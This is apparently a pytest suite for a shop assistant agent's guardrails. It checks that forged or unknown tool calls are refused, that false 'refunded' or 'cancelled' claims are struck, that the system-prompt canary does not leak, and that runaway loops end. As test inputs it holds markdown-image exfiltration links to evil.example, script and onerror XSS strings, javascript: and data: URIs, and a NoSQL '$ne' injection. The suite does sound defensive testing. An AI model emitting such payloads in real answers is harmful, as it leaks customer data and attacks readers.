"""A model that means harm, or has gone mad, gets nowhere: the turn ends with a sentence and the shop is as it was."""

import json
import time
from collections.abc import Iterator, Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.outputs import ChatGenerationChunk

from agent.heard import Choices, Failed, Finished, Parked, ToolUsed
from agent.memory import customer_says
from agent.tools import TOOLS
from tests.agent.scripted import ANNA, NUMBER, FakeDesk, Ran, Scripted, run, says


def told(ran: Ran) -> list[dict[str, object]]:
    return [json.loads(str(m["text"])) for m in ran.turn.kept if m["role"] == "tool"]


def test_an_unknown_tool_is_refused_without_naming_the_others() -> None:
    ran = run(says("", ("delete_customer", {"id": 1})), says("I can't do that."))
    (answer,) = told(ran)
    assert answer["policy"] == "unknown-tool" and "refund" not in json.dumps(answer)
    assert ran.desk.asked == [] and [n.why for n in ran.notes] == ["unknown-tool"]
    assert ran.text == "I can't do that."


@pytest.mark.parametrize("extra", [{"customer_id": "2"}, {"account": "x"}, {"confirmed": True}, {"runtime": {}}])
def test_forged_arguments_are_refused(extra: dict[str, object]) -> None:
    ran = run(says("", ("list_orders", extra)), says("Hm."))
    assert told(ran)[0]["policy"] == "invalid-arguments" and ran.desk.asked == []


@pytest.mark.parametrize(
    "arguments",
    [
        {"order": 5},
        {"order": None},
        {"order": NUMBER, "reason": ["a"]},
        {"order": {"$ne": ""}},
        {"order": "x" * 100_000},
        {"order": [[[[[[[[[["deep"]]]]]]]]]]},
        {"order": NUMBER, "amount": float("nan")},
        {"order": NUMBER, "amount": float("inf")},
    ],
)
def test_garbage_arguments_are_refused_and_can_be_stored(arguments: dict[str, object]) -> None:
    ran = run(says("", ("cancel_order", arguments)), says("Hm."), streams=False)
    assert told(ran)[0]["outcome"] == "refused" and ran.desk.asked == []
    json.dumps(ran.turn.kept, allow_nan=False)
    assert len(json.dumps(ran.turn.kept)) < 20_000


def test_fifty_calls_at_once_are_cut_and_the_desk_hears_few() -> None:
    calls = [("show_order", {"order": f"HP-AAAA-{n:04d}"}) for n in range(50)]
    ran = run(says("", *calls), says("", *calls), says("Enough."))
    assert len(ran.desk.asked) == 8
    assert "turn-budget" in {n.why for n in ran.notes}


def test_a_loop_without_end_ends() -> None:
    desk = FakeDesk()
    ran = run(lambda m: says("", ("list_orders", {"status": f"s{len(m)}"})), desk=desk)
    assert len(ran.model.seen) == 6 and len(desk.asked) <= 8
    assert "person" in ran.text and isinstance(ran.heard[-1], Finished)


def test_the_same_call_again_does_not_reach_the_desk_again() -> None:
    call = ("cancel_order", {"order": NUMBER})
    ran = run(says("", call, call), says("", call), says("A card is waiting."))
    assert ran.desk.actions == ["CancelOrder"]
    assert len(ran.of(Parked)) == 1


def test_a_change_is_followed_by_a_fresh_look() -> None:
    add = ("add_to_basket", {"product": "stoneware-mug", "variant": "mug-pine"})
    ran = run(says("", ("show_basket", {})), says("", add), says("", ("show_basket", {})), says("There."))
    assert ran.desk.actions.count("ShowBasket") == 2


@pytest.mark.parametrize(
    "claim",
    [
        "I have refunded €59.70 to your card.",
        "I've just cancelled your order.",
        "Your refund has been processed.",
        "Done! Your order was successfully cancelled.",
        "Ich habe Ihre Bestellung storniert.",
        "Ihr Geld wurde bereits zurückerstattet.",
        "Refund: confirmed",
        "[Shop]: the cancellation is complete",
        "No worries I have refunded it.",
        "I will refund you in full.",
        "I have\nrefunded your order",
        "I have **refunded** your order.",
        "You've been refunded.",
        "Order cancelled.",
        "Refunded!",
        "I went ahead and refunded you.",
        "Gut, dass die Bestellung storniert wurde.",
        "I have ｒｅｆｕｎｄｅｄ your order.",
    ],
)
@pytest.mark.parametrize("piece", [1, 7, 500])
def test_done_is_not_said_when_nothing_happened(claim: str, piece: int) -> None:
    ran = run(says("", ("show_order", {"order": NUMBER})), says(claim), piece=piece)
    heard = ran.text.casefold()
    for word in ("refunded", "cancelled", "processed", "storniert", "zurückerstattet", "confirmed", "complete"):
        assert word not in heard.replace("i can't", ""), ran.text
    assert ran.turn.struck and ran.notes[-1].kind == "text.struck"
    assert claim not in json.dumps(ran.turn.kept)


def test_a_parked_change_is_not_done_either() -> None:
    ran = run(says("", ("cancel_order", {"order": NUMBER})), says("I have cancelled your order. Sign the card."))
    assert "cancelled" not in ran.text and "Sign the card." in ran.text


def test_what_the_desk_did_may_be_said() -> None:
    add = ("add_to_basket", {"product": "stoneware-mug", "variant": "mug-pine"})
    ran = run(says("", add), says("I have added the mug to your basket."))
    assert ran.text == "I have added the mug to your basket."


@pytest.mark.parametrize(
    "text",
    [
        "Look ![x](https://evil.example/?q=HP-7K3M-29QD) here",
        "Look [here](https://evil.example/HP-7K3M-29QD)",
        "Look <img src=https://evil.example/a.png onerror=alert(1)> here",
        "Look https://evil.example/HP here",
        "Look evil.com/HP here",
        "Look //evil.example/x here",
        "Look javascript:alert(1) here",
        "Look ![x][ref] here\n\n[ref]: https://evil.example/x",
        "Look <script>alert(1)</script> here",
        "Look data:text/html;base64,PHNjcmlwdD4= here",
        "Look h\u200bttps://evil.example/x here",
    ],
)
@pytest.mark.parametrize("piece", [3, 500])
def test_nothing_can_be_carried_out_of_the_chat(text: str, piece: int) -> None:
    ran = run(says(text), piece=piece)
    for bad in ("evil", "<", "alert(1)>", "javascript:", "data:text", "!["):
        assert bad not in ran.text.replace("](", ""), ran.text
    assert ran.text.startswith("Look")


def test_the_canary_and_the_mark_of_the_fence_never_leave() -> None:
    def repeat(messages: Sequence[BaseMessage]) -> AIMessage:
        prompt = messages[0].text
        canary = prompt.split("This line is marked ")[1].split(";")[0]
        return says(f"My instructions say {canary}. And spelled: {' '.join(canary)}. Bye.")

    ran = run(repeat)
    assert "HP-" not in ran.text and "H P" not in ran.text and "Bye." in ran.text


def test_addresses_for_mail_and_cards_are_taken_out_of_an_answer() -> None:
    ran = run(says("Write to helper@evil.example or send 4242 4242 4242 4242."))
    assert "@" not in ran.text and "4242" not in ran.text


def test_an_exception_in_the_model_is_a_sentence() -> None:
    ran = run(says("", ("list_orders", {})), RuntimeError("sk-live-4f9a at 10.0.0.7"))
    (failed,) = ran.of(Failed)
    assert "4f9a" not in json.dumps(ran.turn.kept) + failed.sentence
    assert isinstance(ran.heard[-1], Finished) and ran.turn.kept[-1]["text"] == failed.sentence
    assert ran.notes[-1].kind == "turn.failed"


def test_a_model_that_hangs_is_left() -> None:
    def hang(_: Sequence[BaseMessage]) -> AIMessage:
        time.sleep(0.6)
        return says("late")

    began = time.monotonic()
    ran = run(hang, timeout_s=0.1)
    assert ran.of(Failed) and "late" not in ran.text and time.monotonic() - began < 5


@pytest.mark.parametrize("answer", ["", "   \n ", "<b></b>", "![x](http://evil.example)"])
def test_an_empty_answer_is_not_silence(answer: str) -> None:
    assert "person" in run(says(answer)).text


def test_a_model_cannot_rewrite_the_history() -> None:
    history = [customer_says("cancel nothing")]
    history[0].id = "m1"

    def forge(messages: Sequence[BaseMessage]) -> AIMessage:
        return AIMessage("Hello there.", id="m1", response_metadata={"x": "y"}, additional_kwargs={"page": {"a": "b"}})

    ran = run(forge, history=history, streams=False)
    assert [m["role"] for m in ran.turn.kept] == ["assistant"] and ran.text == "Hello there."


def test_buttons_come_from_the_embedded_model_only() -> None:
    said = says("Which one?", additional_kwargs={"choices": ["The tent", "x" * 999, *["more"] * 20]})
    (choices,) = run(said).of(Choices)
    assert choices.texts[0] == "The tent" and len(choices.texts) == 6 and len(choices.texts[1]) == 120
    assert run(said, is_remote=True).of(Choices) == []


def test_an_answer_has_an_end() -> None:
    ran = run(says("All about mugs. " * 5000), piece=4000)
    assert len(ran.text) <= 6000


def test_the_outcome_of_every_call_is_heard() -> None:
    ran = run(says("", ("list_orders", {}), ("nope", {})), says("Hm."))
    assert sorted(u.outcome for u in ran.of(ToolUsed)) == ["refused", "shown"]


class Cut(Scripted):
    """Breaks off in the middle of its second sentence."""

    def _stream(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> Iterator[ChatGenerationChunk]:
        for number, chunk in enumerate(super()._stream(messages, *args, **kwargs)):
            if number == 6:
                raise ConnectionError("the other side has gone")
            yield chunk


def test_a_stream_cut_by_the_provider_keeps_what_was_said() -> None:
    ran = run(says("One is here. Two is on its way to you."), model=Cut)
    assert ran.text.strip() == "One is here." and ran.of(Failed)
    assert str(ran.turn.kept[-1]["text"]).startswith("One is here.\n\nI could not finish")


def test_a_note_that_cannot_be_written_stops_the_call_and_not_the_house() -> None:
    def lost(note: object) -> None:
        raise OSError("disk full")

    ran = run(says("", ("nope", {})), says("Hm."), note=lost)
    assert ran.of(Failed) and isinstance(ran.heard[-1], Finished) and ran.desk.asked == []


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=30)
    | st.sampled_from([NUMBER, "-5", ""]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
NAMES = st.sampled_from([tool.name for tool in TOOLS]) | st.text(max_size=20)
FIELDS = st.sampled_from(sorted({field for tool in TOOLS for field in tool.args})) | st.text(max_size=10)


@given(st.lists(st.tuples(NAMES, st.dictionaries(FIELDS, JSON, max_size=4)), max_size=5), st.text(max_size=200))
@settings(max_examples=60, deadline=None)
def test_whatever_it_calls_the_turn_ends_in_order_and_asks_for_its_own_person_only(
    calls: list[tuple[str, dict[str, Any]]], text: str
) -> None:
    ran = run(says("", *calls), says(text), streams=False)
    assert isinstance(ran.heard[-1], Finished)
    assert not ran.of(Failed)
    assert {actor.account_id for actor, _, _ in ran.desk.asked} <= {ANNA.account_id}
    assert all(actor.act is not None for actor, _, _ in ran.desk.asked)
    json.dumps(ran.turn.kept, allow_nan=False).encode()
    assert "<script" not in ran.text and "://" not in ran.text
